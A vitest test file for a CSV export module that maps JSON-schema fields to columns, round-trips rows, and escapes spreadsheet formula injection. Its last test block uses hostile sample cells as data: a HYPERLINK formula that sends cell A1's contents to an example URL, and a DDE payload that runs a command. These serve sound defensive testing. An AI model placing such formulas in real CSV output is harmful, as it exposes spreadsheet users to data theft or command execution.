import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import {
	csvColumns,
	fromCsvRecord,
	guardFormula,
	toCsv,
	toCsvRecord,
	type CsvColumn,
	unguardFormula,
} from '../../src/lib/data/csv.ts';
import { downloadSchema, type JsonSchema } from '../../src/lib/data/json-schema.ts';

const schema: JsonSchema = {
	type: 'object',
	properties: {
		id: { type: 'string' },
		note: { type: 'string' },
		publisher: { anyOf: [{ type: 'string' }, { type: 'null' }] },
		url: { type: ['string', 'null'] },
		licensed: { type: 'boolean' },
		aliases: { type: 'array', items: { type: 'string' } },
		about: {
			type: 'object',
			properties: { roles: { type: 'array', items: { type: 'string' } } },
			required: ['roles'],
		},
		regulators: {
			type: 'array',
			items: { type: 'object', properties: { name: { type: 'string' } } },
		},
	},
	required: ['id', 'publisher', 'url', 'licensed', 'aliases', 'about', 'regulators'],
};

describe('csvColumns', () => {
	test('returns a column per field, one per field inside an object, and how each cell is written', () => {
		expect(csvColumns(schema).map((c) => [c.name, c.encoding, c.empty])).toEqual([
			['id', 'text', 'none'],
			['note', 'text', 'absent'],
			['publisher', 'text', 'null'],
			['url', 'text', 'null'],
			['licensed', 'boolean', 'none'],
			['aliases', 'list', 'none'],
			['about.roles', 'list', 'none'],
			['regulators', 'json', 'none'],
		]);
	});

	test('returns the claims columns in the schema’s order', () => {
		expect(csvColumns(downloadSchema('claims').items).map((c) => c.name)).toEqual([
			'id',
			'statement',
			'source',
			'locator',
			'quote',
			'sign',
			'about.jurisdictions',
			'about.roles',
			'about.risks',
			'status',
			'effective',
			'reviewed',
		]);
	});

	test('reports a field that may be both null and absent', () => {
		expect(() =>
			csvColumns({ type: 'object', properties: { date: { type: ['string', 'null'] } } }),
		).toThrowErrorMatchingInlineSnapshot(
			`[Error: \`date\` may be both null and absent: an empty cell could not say which.]`,
		);
	});
});

const columns: CsvColumn[] = csvColumns(schema);
const row = {
	id: 'a',
	note: 'Says “hello, world”,\nthen "bye".',
	publisher: null,
	url: 'https://example.org/?a=1&b=2',
	licensed: false,
	aliases: ['doctor', 'médecin'],
	about: { roles: [] },
	regulators: [{ name: 'Board; of "medicine"' }],
};

describe('toCsvRecord', () => {
	test('returns one text cell per column', () => {
		expect(toCsvRecord(row, columns)).toEqual({
			id: 'a',
			note: 'Says “hello, world”,\nthen "bye".',
			publisher: '',
			url: 'https://example.org/?a=1&b=2',
			licensed: 'false',
			aliases: 'doctor; médecin',
			'about.roles': '',
			regulators: '[{"name":"Board; of \\"medicine\\""}]',
		});
	});

	test('reports a list item that holds a semicolon', () => {
		expect(() =>
			toCsvRecord({ ...row, aliases: ['MD; DO'] }, columns),
		).toThrowErrorMatchingInlineSnapshot(
			`[Error: \`a\`: \`aliases\` has the item "MD; DO": list items in a CSV cell must be non-empty and hold no \`;\`.]`,
		);
	});
});

describe('fromCsvRecord', () => {
	test('returns the row the record was written from', () => {
		expect(fromCsvRecord(toCsvRecord(row, columns), columns)).toEqual(row);
		const withoutNote: Partial<typeof row> = { ...row };
		delete withoutNote.note;
		expect(fromCsvRecord(toCsvRecord(withoutNote, columns), columns)).toEqual(withoutNote);
	});
});

describe('toCsv', () => {
	const csv = toCsv([row, { ...row, id: 'b', aliases: [], licensed: true }], columns);

	test('returns UTF-8 CSV with a byte-order mark, a header and CRLF line ends', () => {
		expect(
			csv.startsWith('\ufeffid,note,publisher,url,licensed,aliases,about.roles,regulators\r\n'),
		).toBe(true);
		expect(csv).toContain('"Says “hello, world”,\nthen ""bye""."');
	});

	test('returns text a CSV parser reads back to the same rows', () => {
		const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
		expect(parsed.errors).toEqual([]);
		expect(parsed.data.map((r) => fromCsvRecord(r, columns))).toEqual([
			row,
			{ ...row, id: 'b', aliases: [], licensed: true },
		]);
	});
});

describe('guardFormula', () => {
	test('returns a cell a spreadsheet would run as a formula with a quote mark before it', () => {
		expect(
			['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', "'=1", "''-1"].map(guardFormula),
		).toEqual(["'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "''=1", "'''-1"]);
	});

	test('returns any other cell as it is', () => {
		for (const cell of ['', 'a=1', ' =1', "'quoted'", '1', '[{"a":"=1"}]', 'x; -y']) {
			expect(guardFormula(cell), cell).toBe(cell);
		}
	});
});

describe('unguardFormula', () => {
	test('returns the cell as it was before guardFormula', () => {
		for (const cell of ['=1+1', '-2', "'=1", "''+1", "'quoted'", 'plain', "'", '']) {
			expect(unguardFormula(guardFormula(cell)), cell).toBe(cell);
		}
	});
});

describe('toCsv with hostile text', () => {
	const hostile = {
		...row,
		id: 'h',
		note: '=HYPERLINK("https://example.org/?"&A1,"Click")',
		publisher: "@SUM(1+1)*cmd|' /C calc'!A0",
		aliases: ['-2+3', 'x'],
	};
	const csv = toCsv([hostile], columns);

	test('returns no cell that starts with a formula character', () => {
		const parsed = Papa.parse<string[]>(csv.slice(1), { header: false, skipEmptyLines: true });
		for (const cell of parsed.data.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
		expect(csv).toContain('"\'=HYPERLINK(""https://example.org/?""&A1,""Click"")"');
		expect(csv).toContain(",'-2+3; x,");
	});

	test('returns text a CSV parser reads back to the same row', () => {
		const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
		expect(parsed.data.map((r) => fromCsvRecord(r, columns))).toEqual([hostile]);
	});
});
